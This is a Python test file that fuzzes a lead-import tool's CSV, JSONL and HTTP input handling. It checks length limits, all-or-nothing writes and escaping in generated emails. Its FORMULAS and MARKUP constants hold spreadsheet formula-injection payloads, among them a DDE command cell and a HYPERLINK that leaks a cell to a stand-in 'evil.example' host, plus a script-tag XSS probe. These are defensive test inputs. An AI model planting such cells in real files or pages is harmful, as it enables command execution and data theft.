"""Bad input never crashes an import or the API, never half-writes, never becomes executable.

Pins, on SQLite and PostgreSQL:
- generated CSV and JSONL files (any Unicode, control characters, quotes and line breaks in
  cells, formula-like cells, cells far longer than their column, files in the wrong encoding,
  random bytes spliced in) end in a report or one :class:`UserInputError`, never another
  exception; a refused file writes nothing; an imported row is stored exactly as its cells say;
- an overlong cell is one located rejection (``FILE:LINE: field: longer than N characters``),
  not a database error that failed its whole batch (PostgreSQL) or a silently stored value
  (SQLite); over HTTP it is a 422 naming the record and field, and nothing is written;
- a formula-injection cell such as ``=cmd|' /C calc'!A0`` is stored verbatim (it is the CRM's
  data), is escaped in HTML email bodies together with any markup, and appears as inert text in
  the plain-text part and the subject. leadflow writes no CSV (see docs/operations.md).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, delete, select

from leadflow.clock import SettableClock
from leadflow.engine.runtime import Runtime
from leadflow.engine.tick import run_due_rules
from leadflow.errors import UserInputError
from leadflow.ingest import import_file
from leadflow.ingest.import_report import ImportReport
from leadflow.store.tables import IMPORT_RUNS, LEADS, OUTBOX, REPS, STAGE_CHANGES
from tests.conftest import T0
from tests.http_support import Api, build_app, http_settings, runtime_for
from tests.replica_support import MQL_RULE, REPO, seed_funnel

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
FIELDS = ["external_id", "name", "company", "score", "email"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]
MARKUP = "<script>alert('x')</script> & <b>bold</b>"

cell = st.one_of(
    st.text(max_size=40),
    st.sampled_from([*FORMULAS, MARKUP, "", " ", '"', "\x00", "\r\n", 'Zoë, "the" one']),
    st.builds(lambda c, n: c * n, st.sampled_from("aé€𝄞"), st.integers(150, 1200)),
    st.integers(-(2**40), 2**40).map(str),
)
csv_row = st.fixed_dictionaries(dict.fromkeys(FIELDS, cell))
json_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30) | cell,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)
json_line = st.one_of(
    st.dictionaries(
        st.sampled_from(["external_id", "name", "company", "score", "email", "stage", "extra"]),
        json_value,
        max_size=6,
    ).map(json.dumps),
    st.text(max_size=30),
)
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def empty(engine: Engine) -> None:
    with engine.begin() as connection:
        connection.execute(delete(STAGE_CHANGES))  # an import records each lead's first stage
        connection.execute(delete(LEADS))
        connection.execute(delete(IMPORT_RUNS))


def stored(engine: Engine) -> dict[str, tuple[str | None, str | None]]:
    with engine.connect() as connection:
        rows = connection.execute(select(LEADS.c.external_id, LEADS.c.name, LEADS.c.company))
        return {row.external_id: (row.name, row.company) for row in rows}


def attempt(engine: Engine, settings_: Any, path: Path) -> ImportReport | None:
    """The import's report, or None when it refused the file, which must then write nothing."""
    try:
        return import_file(engine, settings_, "leads", path, clock=SettableClock(T0))
    except UserInputError as exc:
        message = str(exc)
    # Each problem on a line of its own, located in the file.
    assert all(line.startswith(f"{path}:") for line in message.splitlines()), message
    assert stored(engine) == {}
    return None


def expected_rows(
    rows: list[dict[str, str]], written: str = "", rejected: frozenset[int] = frozenset()
) -> dict[str, tuple[str | None, str | None]]:
    """What a row that imported must look like: its cells, stripped, empty as None; of rows
    with one key, the last one not rejected (``rejected``: the lines the import's problems
    name, in ``written``, the CSV as written, whose records may span lines)."""
    spans = _record_lines(written) if rejected else [range(0)] * len(rows)
    found = {}
    for row, lines in zip(rows, spans, strict=True):
        if rejected.intersection(lines):
            continue
        key = row["external_id"].strip()
        found[key] = (row["name"].strip() or None, row["company"].strip() or None)
    return found


def _record_lines(written: str) -> list[range]:
    """The lines (1-based) each record after the header takes in the CSV text ``written``.

    A lone carriage return inside a quoted cell ends a line, as in an editor and in the
    import's line numbers (``newline=""`` splits on it without changing the text)."""
    reader = csv.reader(io.StringIO(written, newline=""))
    next(reader)
    spans = []
    last = reader.line_num
    for _record in reader:
        spans.append(range(last + 1, reader.line_num + 1))
        last = reader.line_num
    return spans


class TestFuzzedImports:
    """Whatever the file, a report or one clear error; what is stored is what the file says."""

    @FUZZ
    # Found by hypothesis: a second row of one key, rejected for its score, left the first
    # stored, which the oracle (the last row of a key) did not expect.
    @example(
        rows=[
            {"external_id": "0", "name": "", "company": "", "score": "", "email": ""},
            {"external_id": "0", "name": "", "company": "0", "score": ":", "email": ""},
        ],
        encoding="utf-8",
        splice=None,
    )
    # Found by hypothesis: a lone CR inside a quoted cell is a line of its own for the import;
    # the oracle counted it as none and expected the rejected row's neighbour rejected.
    @example(
        rows=[
            {"external_id": "", "name": "", "company": "", "score": "", "email": ""},
            {"external_id": "", "name": "", "company": "", "score": "", "email": "\r"},
            {"external_id": "", "name": "", "company": "", "score": "o", "email": ""},
            {"external_id": "0", "name": "", "company": "", "score": "", "email": ""},
        ],
        encoding="utf-8",
        splice=None,
    )
    @given(
        rows=st.lists(csv_row, max_size=6),
        encoding=st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"]),
        splice=st.one_of(
            st.none(), st.tuples(st.integers(0, 400), st.binary(min_size=1, max_size=4))
        ),
    )
    @pytest.mark.slow
    def test_csv(
        self,
        engine: Engine,
        make_settings: Any,
        tmp_path: Path,
        rows: list[dict[str, str]],
        encoding: str,
        splice: tuple[int, bytes] | None,
    ) -> None:
        empty(engine)
        text = io.StringIO()
        writer = csv.DictWriter(text, fieldnames=FIELDS)
        writer.writeheader()
        writer.writerows(rows)
        data = text.getvalue().encode(encoding, errors="replace")
        if splice is not None:
            at, junk = splice
            data = data[:at] + junk + data[at:]
        path = tmp_path / "leads.csv"
        path.write_bytes(data)
        report = attempt(engine, make_settings(), path)
        if report is None or splice is not None or encoding not in ("utf-8", "utf-8-sig"):
            return  # the bytes no longer say what the rows said: only "no crash" is pinned
        # A row the import rejected (a score of ":") leaves an earlier row of its key stored.
        wanted = expected_rows(rows, text.getvalue(), frozenset(p.line for p in report.problems))
        for key, values in stored(engine).items():
            assert wanted[key] == values
            assert all(v is None or len(v) <= 300 for v in values)

    @FUZZ
    @given(lines=st.lists(json_line, max_size=6))
    def test_jsonl(
        self, engine: Engine, make_settings: Any, tmp_path: Path, lines: list[str]
    ) -> None:
        empty(engine)
        path = tmp_path / "leads.jsonl"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        report = attempt(engine, make_settings(), path)
        if report is None:
            return
        leads = stored(engine)
        assert report.counts.inserted == len(leads)
        for name, company in leads.values():
            assert name is None or len(name) <= 300
            assert company is None or len(company) <= 300


class TestOverlongCells:
    """A cell longer than its column is one located rejection; the other rows import."""

    def test_csv_and_jsonl(
        self, engine: Engine, make_settings: Any, tmp_path: Path, clock: SettableClock
    ) -> None:
        path = tmp_path / "leads.csv"
        path.write_text(
            f"external_id,name,company\nL1,{'A' * 100_000},Acme\nL2,Bob,{'C' * 301}\nL3,Cy,Gamma\n",
            encoding="utf-8",
        )
        report = import_file(engine, make_settings(), "leads", path, clock=clock)
        assert [str(p) for p in report.problems] == [
            f"{path}:2: name: longer than 300 characters (100000); shorten it",
            f"{path}:3: company: longer than 300 characters (301); shorten it",
        ]
        assert stored(engine) == {"L3": ("Cy", "Gamma")}
        jsonl = tmp_path / "leads.jsonl"
        jsonl.write_text(
            json.dumps({"external_id": "E" * 201}) + "\n" + json.dumps({"external_id": "L4"}),
            encoding="utf-8",
        )
        report = import_file(engine, make_settings(), "leads", jsonl, clock=clock)
        assert [str(p) for p in report.problems] == [
            f"{jsonl}:1: external_id: longer than 200 characters (201); shorten it"
        ]
        assert sorted(stored(engine)) == ["L3", "L4"]

    def test_rep_external_ids_given_or_made_from_the_name(
        self, engine: Engine, make_settings: Any, tmp_path: Path, clock: SettableClock
    ) -> None:
        """Reps were not checked: PostgreSQL failed the batch, SQLite stored the id whole."""
        path = tmp_path / "reps.csv"
        path.write_text(
            f"external_id,name,email\n{'R' * 201},Ann,ann@example.com\nR2,Bob,bob@example.com\n",
            encoding="utf-8",
        )
        report = import_file(engine, make_settings(), "reps", path, clock=clock)
        assert [str(p) for p in report.problems] == [
            f"{path}:2: external_id: longer than 200 characters (201); shorten it"
        ]
        named = tmp_path / "named.csv"
        long_name = " ".join(["Bartholomew"] * 20)
        named.write_text(
            f"name,email\n{long_name},b@example.com\nCy Lee,cy@example.com\n", encoding="utf-8"
        )
        report = import_file(engine, make_settings(), "reps", named, clock=clock)
        assert [str(p) for p in report.problems] == [
            f"{named}:2: name: the external id made from it is longer than 200 characters "
            "(239); shorten it, or add an external_id column"
        ]
        with engine.connect() as connection:
            ids = connection.execute(select(REPS.c.external_id).order_by(REPS.c.id)).scalars()
            assert ids.all() == ["R2", "cy-lee"]

    def test_http_is_422_and_writes_nothing(
        self, engine: Engine, make_settings: Any, clock: SettableClock
    ) -> None:
        runtime = runtime_for(engine, http_settings(make_settings), clock)
        api = Api(build_app(runtime)[0])
        response = api.post(
            "/v1/leads",
            [{"external_id": "L1", "name": "Ann"}, {"external_id": "L2", "name": "x" * 301}],
        )
        assert response.status_code == 422
        assert response.json()["detail"] == [
            {
                "loc": ["body", 1, "name"],
                "msg": "longer than 300 characters (301); shorten it",
                "type": "value_error",
            }
        ]
        assert stored(engine) == {}


class TestFormulaCells:
    """Formula-like and markup names are stored verbatim and never active in an email."""

    @pytest.fixture
    def runtime(self, engine: Engine, make_settings: Any, tmp_path: Path) -> Runtime:
        (tmp_path / "rules").mkdir()
        (tmp_path / "rules" / "hot.yaml").write_text(MQL_RULE, encoding="utf-8")
        settings_ = make_settings(**{"paths.templates": str(REPO / "templates")})
        return Runtime.build(engine, settings_, SettableClock(NOW))

    def test_escaped_in_html_verbatim_in_text(
        self, runtime: Runtime, tmp_path: Path, clock: SettableClock
    ) -> None:
        engine = runtime.engine
        seed_funnel(engine, NOW, 0)
        rows = [
            {"external_id": f"F{i}", "name": name, "company": MARKUP, "score": "80"}
            for i, name in enumerate(FORMULAS)
        ]
        text = io.StringIO()
        writer = csv.DictWriter(text, fieldnames=["external_id", "name", "company", "score"])
        writer.writeheader()
        writer.writerows(rows)
        path = tmp_path / "leads.csv"
        path.write_text(text.getvalue(), encoding="utf-8")
        report = import_file(engine, runtime.settings, "leads", path, clock=clock)
        assert report.problems == []
        # Stored exactly (a leading tab is blank and trimmed like any surrounding blank).
        assert stored(engine) == {row["external_id"]: (row["name"].strip(), MARKUP) for row in rows}
        run_due_rules(runtime, runtime.load_rules(), NOW)
        with engine.connect() as connection:
            emails = connection.execute(
                select(LEADS.c.name, OUTBOX.c.subject, OUTBOX.c.body_text, OUTBOX.c.body_html)
                .join(LEADS, OUTBOX.c.lead_id == LEADS.c.id)
                .order_by(LEADS.c.external_id)
            ).all()
        assert len(emails) == len(FORMULAS)
        for name, subject, body_text, body_html in emails:
            assert name in subject
            assert name in body_text
            assert "<script>" not in body_html
            assert (
                "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;"
                in body_html
            )
            escaped = (
                name.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace('"', "&#34;")
                .replace("'", "&#39;")
            )
            assert escaped in body_html
        with engine.connect() as connection:
            assert connection.execute(select(REPS.c.external_id)).scalars().all() == [
                "r1",
                "r2",
                "r3",
            ]
